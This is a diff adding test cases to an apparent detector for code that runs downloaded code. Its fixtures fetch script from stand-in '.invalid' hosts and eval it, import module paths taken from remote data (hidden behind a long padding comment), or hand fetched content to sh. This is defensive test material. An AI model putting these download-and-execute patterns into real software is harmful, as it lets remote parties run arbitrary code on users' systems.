@@ -8,6 +8,23 @@ const UPDATES = `const fs = require('fs'), path = require('path'), os = require(
 examine(runsDownloadedCode, {
   speaks: [
     {
+      when: 'a setting with a host beside it says where versions are listed, and far from that a module of the user is loaded',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', main: 'index.js' },
+        'index.js': `const base = process.env.TOOL_BASE || 'https://tool.invalid'; const known = {}; exports.check = async () => { known.last = await (await fetch(base + '/versions.json')).json(); return known; };
+          // ${'x'.repeat(6_000)}
+          exports.load = async name => import('file://' + (known.last?.[name] ?? name));`,
+      },
+      weight: 'context',
+    },
+    {
+      when: 'where it comes from is a setting, and a host of the code where nobody sets it',
+      files: {
+        'index.js': `const base = process.env.TOOL_BASE || 'https://code.invalid'; fetch(base + '/x.js').then(answer => answer.text()).then(text => eval(text));`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'what is saved as JSON is given to a shell',
       files: {
         'index.js': `const cp = require('child_process'), fs = require('fs'); (async () => { fs.writeFileSync('app/settings.json', await (await fetch('https://a.invalid/settings')).text()); cp.spawnSync('sh', ['app/settings.json']); })();`,
